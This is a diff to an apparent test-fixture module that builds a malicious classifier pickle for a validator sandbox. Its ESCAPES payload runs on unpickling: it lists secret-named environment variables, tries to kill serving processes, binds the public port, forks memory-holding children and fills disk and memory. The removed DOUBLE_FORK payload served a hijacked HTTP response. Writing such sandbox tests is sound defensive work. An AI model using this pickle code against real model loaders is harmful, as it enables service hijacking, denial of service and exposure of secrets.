@@ -210,51 +210,68 @@ def computing(pickled: Path, target: Path, how: str) -> Path:
     return target
 
 
-# Run while unpickled by the validator: a grandchild (double fork, new session) reports what it
-# sees and tries to serve the public port beside the workers; the load then fails.
-DOUBLE_FORK = '''
-import json, os, socket, time
-if os.fork() == 0:
-    os.setsid()
-    if os.fork() == 0:
-        seen = {"pid": os.getpid(), "env": sorted(os.environ),
-                "proc": open("/proc/self/environ", "rb").read().decode("latin-1")}
-        server = socket.socket()
-        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
-        try:
-            server.bind(("127.0.0.1", PORT))
-            server.listen(64)
-            seen["bind"] = "bound"
-        except OSError as exc:
-            seen["bind"] = exc.errno
-        open(REPORT + ".tmp", "w").write(json.dumps(seen))
-        os.rename(REPORT + ".tmp", REPORT)
-        body = b'{"label":"Gold","probability":1.0}'
-        while seen["bind"] == "bound":
-            answer, _ = server.accept()
-            answer.recv(65536)
-            head = b"HTTP/1.1 200 OK\\r\\nX-Hijacked: 1\\r\\nConnection: close\\r\\n"
-            answer.sendall(head + b"Content-Length: %d\\r\\n\\r\\n" % len(body) + body)
-            answer.close()
-        time.sleep(3600)
-    os._exit(0)
-for _ in range(200):
-    if os.path.exists(REPORT):
-        break
-    time.sleep(0.1)
-raise ValueError("refused after forking")
-'''
+# Run while unpickled by the validator: what a hostile author tries from there — stop or kill
+# serving's processes (SIGNAL to each of PIDS; kill(-1) with signal 0 only, as root it reaches
+# every process of the machine), serve the public port, fork 50 children holding 64 MiB each
+# (a server that outlives the verdict), write a 2 GiB file, hold 1 GiB in a memfd — then refuse
+# the load with every call's errno (0: it worked) in the reason.
+ESCAPES = """
+import json, os, signal, socket, time
+SECRETS = ("TOKEN", "KEY", "SECRET")
+proc = open("/proc/self/environ", "rb").read().decode("latin-1").split("\\0")
+seen = {"env": [n for n in os.environ if any(w in n for w in SECRETS)],
+        "proc": [e.split("=")[0] for e in proc if any(w in e.split("=")[0] for w in SECRETS)]}
+def attempt(name, call):
+    try:
+        call()
+        seen[name] = 0
+    except OSError as exc:
+        seen[name] = exc.errno
+def serve():
+    server = socket.socket()
+    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+    server.bind(("127.0.0.1", PORT))
+    server.listen(64)
+def fork():
+    for _ in range(50):
+        if os.fork() == 0:
+            os.setsid()
+            hold = bytearray(64 * 1024 * 1024)
+            time.sleep(30)
+            os._exit(0)
+def write():
+    with open(BIG, "wb") as big:
+        for _ in range(2048):
+            big.write(bytes(1024 * 1024))
+def memfd():
+    os.ftruncate(os.memfd_create("hold"), 1024 ** 3)
+attempt("kill everyone", lambda: os.kill(-1, 0))
+for pid in PIDS:
+    attempt(f"kill {pid}", lambda: os.kill(pid, SIGNAL))
+attempt("bind", serve)
+attempt("fork", fork)
+attempt("write", write)
+attempt("memfd", memfd)
+raise ValueError("refused after trying " + json.dumps(seen))
+"""
 
 
-def double_forking(source: Path, target: Path, port: int, report: Path) -> Path:
-    """A classifier folder whose pickle runs DOUBLE_FORK (aimed at port) when loaded."""
+def escaping(source: Path, target: Path, port: int, pids: list[int], signal: int,
+             big: Path) -> Path:
+    """A classifier folder whose pickle runs ESCAPES (aimed at port, pids and the file big) when
+    loaded."""
     import pickle
 
     shutil.copytree(source, target)
     (target / "pipeline.skops").unlink(missing_ok=True)
-    script = f"PORT = {port}\nREPORT = {str(report)!r}\n" + DOUBLE_FORK
-    (target / "pipeline.pkl").write_bytes(pickle.dumps(LoadsAs(f"exec({script!r})")))
+    script = f"PORT = {port}\nPIDS = {pids!r}\nSIGNAL = {signal}\nBIG = {str(big)!r}\n" + ESCAPES
+    (target / "pipeline.pkl").write_bytes(pickle.dumps(LoadsAs(f"exec({script!r}, {{}})")))
     return target
+
+
+def attempts(reason: str) -> dict:
+    """What ESCAPES reported in the refusal's reason."""
+    return json.loads(reason.partition("refused after trying ")[2])
 
 
 _KEPT: list[bytes] = []  # per process: what every call of every Leaking instance kept
